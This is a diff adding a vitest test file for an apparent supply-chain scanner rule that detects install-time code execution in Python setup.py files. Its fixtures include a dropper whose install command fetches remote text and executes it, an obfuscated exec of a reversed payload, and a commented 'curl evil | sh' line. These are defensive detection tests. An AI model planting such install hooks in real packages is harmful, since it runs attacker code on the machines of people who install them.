@@ -1,0 +1,40 @@
+import { describe, it, expect } from 'vitest';
+import { hits, maxSev } from './helpers.js';
+
+const DROPPER = `from setuptools import setup
+from setuptools.command.install import install
+import os, requests
+
+class PostInstall(install):
+    def run(self):
+        r = requests.get('https://cdn.example.net/x')
+        os.system('python -c "' + r.text + '"')
+        install.run(self)
+
+setup(name='pkg', version='1.0', cmdclass={'install': PostInstall})
+`;
+
+describe('install-time-exec', () => {
+  it('flags network + spawn in a cmdclass install command (high)', () => {
+    expect(maxSev(hits('install-time-exec', { 'setup.py': DROPPER }))).toBe('high');
+  });
+  it('flags exec of computed code at setup.py top level (medium)', () => {
+    const src = `import setuptools\nexec(''.join(reversed(PAYLOAD)))\nsetuptools.setup(name='x')\n`;
+    expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('medium');
+  });
+  it('keeps a pkg-config probe low (Pillow/psycopg2 pattern)', () => {
+    const src = `import subprocess\nfrom setuptools import setup\nflags = subprocess.check_output(['pkg-config', '--cflags', 'zlib'])\nsetup(name='x')\n`;
+    expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('low');
+  });
+  it('does not flag exec of a version file (h11, websockets, coverage)', () => {
+    const src = `from setuptools import setup\nversion = {}\nexec(open('pkg/_version.py').read(), version)\nexec(compile(open('pkg/about.py').read(), 'about.py', 'exec'))\nsetup(name='x', version=version['__version__'])\n`;
+    expect(hits('install-time-exec', { 'setup.py': src })).toEqual([]);
+  });
+  it('ignores a spawn in a function setup.py never calls, and comments', () => {
+    const src = `from setuptools import setup\nimport os\ndef release():\n    os.system('twine upload dist/*')\n# os.system('curl evil | sh')\nsetup(name='x')\n`;
+    expect(hits('install-time-exec', { 'setup.py': src })).toEqual([]);
+  });
+  it('does not look at ordinary modules', () => {
+    expect(hits('install-time-exec', { 'pkg/cli.py': 'import os\nos.system("ls")\n' })).toEqual([]);
+  });
+});
